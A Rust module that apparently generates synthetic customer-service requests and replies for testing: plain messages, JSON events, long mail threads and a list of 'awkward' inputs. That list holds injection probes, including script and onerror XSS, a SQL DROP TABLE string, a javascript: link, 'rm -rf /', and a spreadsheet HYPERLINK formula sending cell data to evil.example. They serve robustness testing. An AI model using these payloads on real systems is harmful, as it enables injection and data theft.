//! What was asked and what was answered.

use super::{
    case::Case,
    draw::Draw,
    languages::{self, Phrases},
    skills::Skill,
};
use serde_json::json;

/// Texts that a page, a spreadsheet or a terminal could take for something else than text.
const AWKWARD: [&str; 10] = [
    "Your site shows this on my order {order}: <script>alert(1)</script> What does it mean?",
    "Company name on the invoice should be Smith &amp; Daughters, not Smith &amp;amp; Daughters. Order {order}.",
    "<img src=x onerror=\"alert(document.domain)\"> this is what the chat widget printed instead of my {product}",
    "My name is Robert'); DROP TABLE orders;-- and I would like to know about {order}. It is really my name.",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"{order}\") was in the export you sent me, is that right?",
    "**Bold claim:** [click here](javascript:alert(1)) is in the mail about {order}. Is it from you? `rm -rf /`",
    "The label says \u{202e}{order}\u{202c} when I copy it. Also Z\u{335}a\u{336}l\u{337}g\u{338}o and 👩‍👩‍👧‍👦 and e\u{301} look odd.",
    "order:\t{order}\r\nitem:\t{product}\r\n\r\n\r\n--\r\nSent from my phone \\n \\u0041 %00 ${order} [[order]]",
    "</td></tr></table><h1>Hi</h1> sorry, pasted from Word. Where is {order}?",
    "ÜBERWEISUNG!!! {amount} ≠ {half} ⚠️ 😡😡😡 'quotes' “curly” „low“ «guillemets» — and a\u{a0}no-break space.",
];

/// A paragraph of a long mail.
const MAIL_PARAGRAPHS: [&str; 6] = [
    "> On {date}, {customer} <{email}> wrote:\n> I have now read through the whole thread again and still do not understand why order {order} was split in two. The first parcel had {count} pieces, the second none, and both had the same delivery note. Could somebody please explain?\n",
    "I called on {date} and spoke to {colleague}, who was friendly but could not find {order}. After that I wrote through the form on your page. The form said that it takes {days} days. It did not say working days.\n",
    "For completeness: the {product} was bought for our office in {city}. It is used by three people. The serial number on the sticker is {sku}-{tracking}, the sticker itself is hard to read because of the way it was put on.\n",
    "Let me also say what went well: the packaging was good, {carrier} was on time, and the manual has improved. I mention it because one only ever hears complaints.\n",
    "What I expect now is simple. Either the missing pieces arrive before {due}, or {half} of the {amount} is paid back. A voucher is not useful to me, as I said on {date}.\n",
    "-----Original Message-----\nFrom: service@halden.example\nTo: {email}\nSubject: Re: Re: Re: [{order}] your request\n\nThank you for your message. We have received it and will answer as soon as we can. Please do not answer to this mail.\n",
];

/// How long a long message is, in bytes.
const LONG_MESSAGE: usize = 20 * 1024;

/// How a run was asked for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Tone {
    /// By a person, in words.
    Words,
    /// By a program, as JSON.
    Event,
    /// With signs that are markup elsewhere.
    Awkward,
    /// With all the mails that went before.
    Long,
}

/// The phrases of the customer's language, when the skill faces customers and they have one of their own.
pub fn foreign(skill: &Skill, case: &Case) -> Option<&'static Phrases> {
    if skill.faces_customers { languages::phrases(case.customer.language) } else { None }
}

/// What was asked.
pub fn input(skill: &Skill, case: &Case, tone: Tone, draw: &mut Draw) -> String {
    match tone {
        Tone::Words => words(skill, case, draw),
        Tone::Event => event(skill, case, draw),
        Tone::Awkward => case.fill(draw.word(&AWKWARD)),
        Tone::Long => long(skill, case, draw),
    }
}

fn words(skill: &Skill, case: &Case, draw: &mut Draw) -> String {
    if let Some(phrases) = foreign(skill, case) {
        return case.fill(draw.word(phrases.inputs));
    }
    let mut text = case.fill(draw.word(skill.inputs));
    if draw.chance(35) {
        text.push(if draw.chance(30) { '\n' } else { ' ' });
        text.push_str(&case.fill(draw.word(skill.additions)));
    }
    text
}

fn event(skill: &Skill, case: &Case, draw: &mut Draw) -> String {
    let about = if skill.faces_customers {
        json!({ "order": case.order, "customer": { "name": case.customer.name, "email": case.customer.email } })
    } else {
        json!({ "company": case.company.name, "domain": case.company.domain, "by": case.colleague.name })
    };
    let payload = json!({
        "event": skill.trigger,
        "id": format!("evt_{}", draw.hex(12)),
        "amount": { "currency": case.currency, "cents": case.cents },
        "about": about,
        "note": case.fill(draw.word(skill.inputs)),
    });
    payload.to_string()
}

fn long(skill: &Skill, case: &Case, draw: &mut Draw) -> String {
    let mut text = words(skill, case, draw);
    while text.len() < LONG_MESSAGE {
        text.push_str("\n\n");
        text.push_str(&case.fill(draw.word(&MAIL_PARAGRAPHS)));
    }
    text
}

/// What was answered.
pub fn output(skill: &Skill, case: &Case, draw: &mut Draw) -> String {
    let outputs = match foreign(skill, case) {
        Some(phrases) if draw.chance(70) => phrases.outputs,
        _ => skill.outputs,
    };
    case.fill(draw.word(outputs))
}
